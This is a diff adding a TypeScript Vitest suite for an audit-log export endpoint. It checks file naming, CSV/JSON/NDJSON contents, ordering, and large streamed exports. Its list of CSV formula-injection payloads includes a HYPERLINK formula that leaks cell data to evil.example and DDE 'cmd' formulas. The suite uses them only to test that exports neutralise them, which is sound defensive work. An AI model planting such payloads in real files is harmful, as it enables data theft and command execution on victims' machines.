@@ -1,0 +1,212 @@
+/** The log as files: complete, correct, and harmless to a spreadsheet. */
+import { describe, expect, it } from 'vitest';
+import type { Entry } from '../../src/schema.ts';
+import { startService } from '../harness.ts';
+import { exported, type Format, formatNames, idsIn, readCsv, readLines } from './files.ts';
+
+const base = { event_type: 'CREATE', entity_type: 'order' };
+
+const inOrderOfTime = (a: Entry, b: Entry) =>
+  a.timestamp === b.timestamp ? a.id - b.id : a.timestamp < b.timestamp ? -1 : 1;
+
+/** What a spreadsheet takes for a formula (OWASP, CSV injection), bare and behind what is skipped before one. */
+const formulas = [
+  '=1+1',
+  '=1+1\nfoo',
+  '=HYPERLINK("https://evil.example?x="&A1,"click")',
+  "=cmd|' /C calc'!A0",
+  '@SUM(1)',
+  '+1+1',
+  '-1+2',
+  '-2+3+cmd|calc!A0',
+  ' =1+1',
+  '   @SUM(1)',
+  '\u00a0=1',
+  '\u3000=1',
+  ' \ufeff=1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(1)',
+  '\t=1',
+  '\t1',
+  '\r=1',
+  '\n=1',
+  '\r\n=1',
+  '\v=1',
+  '\u2028=1',
+  '|cmd',
+  '%0A=1',
+  '=',
+  '=";=1',
+];
+
+/** What looks a little like one, and must come back as it is. */
+const harmless = [
+  'a=b',
+  '1-1',
+  '50 %',
+  "it's",
+  'a@b.example',
+  "'",
+  '"',
+  '""',
+  ',',
+  ';',
+  'a\nb',
+  'a\r\nb',
+  ' a ',
+  '中🧾',
+  '<b>',
+  '\\',
+];
+
+const service = await startService();
+const kept = await service.write([
+  {
+    ...base,
+    entity_id: 'o-1',
+    user_id: 'ana',
+    description: 'He said "yes", twice;\r\nthen left\n',
+    metadata: { 'a "key"': [1, 2.5, null, true, 'x,\ny'], __proto__x: { deep: {} } },
+    ip_address: '2001:db8::1',
+    user_agent: 'Mozilla/5.0 (X11; Linux) "quoted"',
+    timestamp: '2024-02-29T12:00:00.123Z',
+    service: 'till',
+    trace_id: 't-1',
+    session_id: 's-1',
+    event_uid: 'uid-1',
+  },
+  { ...base, timestamp: '2024-02-29T12:00:00.123Z' },
+  { ...base, timestamp: '2023-01-01', metadata: {} },
+]);
+const small = 'start_date=2023-01-01&end_date=2024-12-31&';
+const ordered = kept.toSorted(inOrderOfTime);
+
+describe('the file', () => {
+  it.each(formatNames)('%s is an attachment with a dated name and its type', async (format) => {
+    const before = new Date().toISOString().slice(0, 10);
+    const { headers } = await service.request(`/api/logs/export?format=${format}&limit=`);
+    const disposition = headers.get('content-disposition') ?? '';
+    expect(disposition).toMatch(new RegExp(`^attachment; filename="[\\w-]+\\.${format}"$`));
+    expect([before, new Date().toISOString().slice(0, 10)]).toContain(/\d{4}-\d\d-\d\d/.exec(disposition)?.[0]);
+    const types = { csv: 'text/csv', json: 'application/json', ndjson: 'application/x-ndjson' };
+    expect(headers.get('content-type')).toContain(types[format]);
+    expect(headers.get('content-type')).toContain('utf-8');
+  });
+
+  it('is CSV when nothing is said', async () => {
+    expect(await exported(service, small)).toBe(await exported(service, `${small}format=csv`));
+  });
+
+  it('JSON and NDJSON hold the entries as the API gives them, in the order of time', async () => {
+    expect(JSON.parse(await exported(service, `${small}format=json`))).toEqual(ordered);
+    expect(readLines(await exported(service, `${small}format=ndjson`))).toEqual(ordered);
+  });
+
+  it('CSV holds every field of every entry, metadata as JSON text, nothing as an empty cell', async () => {
+    const text = await exported(service, `${small}format=csv`);
+    const { rows, columns } = readCsv(text);
+    expect(columns.toSorted()).toEqual(Object.keys(kept[0] ?? {}).toSorted());
+    expect(columns).toEqual(expect.arrayContaining(['metadata', 'created_at']));
+    expect(rows).toHaveLength(ordered.length);
+    for (const [i, row] of rows.entries()) {
+      const { metadata, ...entry } = ordered[i] ?? kept[0] ?? ({} as Entry);
+      for (const [name, value] of Object.entries(entry))
+        expect(row[name], name).toBe(value === null ? '' : String(value));
+      expect(row.metadata === '' ? null : JSON.parse(row.metadata ?? '')).toEqual(metadata);
+    }
+    // RFC 4180: CRLF ends every record, the last one too.
+    expect(text.endsWith('\r\n')).toBe(true);
+    expect(text.slice(0, text.indexOf('\r\n'))).toBe(columns.join(','));
+  });
+
+  it.each([
+    ['csv', /^id,timestamp,[\w,]+\r\n$/],
+    ['json', /^\[\s*\]\s*$/],
+    ['ndjson', /^$/],
+  ])('%s of nothing is whole', async (format, text) => {
+    expect(await exported(service, `entity_id=nobody&format=${format}`)).toMatch(text);
+  });
+
+  it('a HEAD asks for no rows', async () => {
+    const answer = await service.request('/api/logs/export', { method: 'HEAD' });
+    expect(answer.status).toBe(200);
+    expect(await answer.text()).toBe('');
+  });
+});
+
+describe('a cell that a spreadsheet would run', async () => {
+  const cells = ['event_type', 'entity_id', 'description', 'user_agent'] as const;
+  const texts = [...formulas, ...harmless];
+  await service.write(
+    texts.map((text, i) => ({
+      event_type: text,
+      entity_type: 'order',
+      entity_id: text,
+      description: text,
+      user_agent: text,
+      user_id: `cell ${i}`,
+    })),
+  );
+  const { rows } = readCsv(await exported(service, 'format=csv'));
+  const rowOf = (i: number) => rows.find((row) => row.user_id === `cell ${i}`);
+
+  it.each(formulas.map((text, i) => ({ text, i })))('$text is text', ({ text, i }) => {
+    for (const cell of cells) expect(rowOf(i)?.[cell], cell).toBe(`'${text}`);
+  });
+
+  it.each(harmless.map((text, i) => ({ text, i: formulas.length + i })))('$text is as it was', ({ text, i }) => {
+    for (const cell of cells) expect(rowOf(i)?.[cell], cell).toBe(text);
+  });
+
+  it('is as it was in JSON, which no spreadsheet runs', async () => {
+    const entries = readLines(await exported(service, 'format=ndjson')).filter(({ user_id }) =>
+      user_id?.startsWith('cell '),
+    );
+    expect(entries.map(({ description }) => description).toSorted()).toEqual(texts.toSorted());
+  });
+});
+
+// A cap would show at 10,000.
+const rows = 11_000;
+describe(`${rows} rows`, async () => {
+  const start = Date.UTC(2020, 0, 1);
+  for (let from = 0; from < rows; from += 1_000)
+    await service.write(
+      // Few moments, in no order: every page ends within a crowd of the same millisecond.
+      Array.from({ length: 1_000 }, (_, i) => ({
+        ...base,
+        entity_type: 'many',
+        entity_id: from + i,
+        timestamp: new Date(start + (((from + i) * 7_919) % 23) * 1_000).toISOString(),
+      })),
+    );
+  const many = (text: Format) => `entity_type=many&format=${text}`;
+
+  it.each(formatNames)('come out complete as %s, each once', async (format) => {
+    const ids = idsIn[format](await exported(service, many(format)));
+    expect(ids).toHaveLength(rows);
+    expect(new Set(ids).size).toBe(rows);
+  });
+
+  it('are in the order of time', async () => {
+    const entries = readLines(await exported(service, many('ndjson')));
+    expect(entries.toSorted(inOrderOfTime).map(({ id }) => id)).toEqual(entries.map(({ id }) => id));
+  });
+
+  it('are those that were there when it began, whatever is written while it runs', async () => {
+    const answer = await service.request(`/api/logs/export?${many('ndjson')}`);
+    const reader = answer.body?.pipeThrough(new TextDecoderStream()).getReader();
+    if (!reader) throw new Error('no body');
+    let text = (await reader.read()).value ?? '';
+    // At the end of the time that it goes along, where it has not been yet.
+    await service.write(
+      Array(500).fill({ ...base, entity_type: 'many', timestamp: '2020-06-01', description: 'late' }),
+    );
+    for (let { done, value } = await reader.read(); !done; { done, value } = await reader.read()) text += value;
+    const entries = readLines(text);
+    expect(entries).toHaveLength(rows);
+    expect(entries.filter(({ description }) => description === 'late')).toEqual([]);
+  });
+});
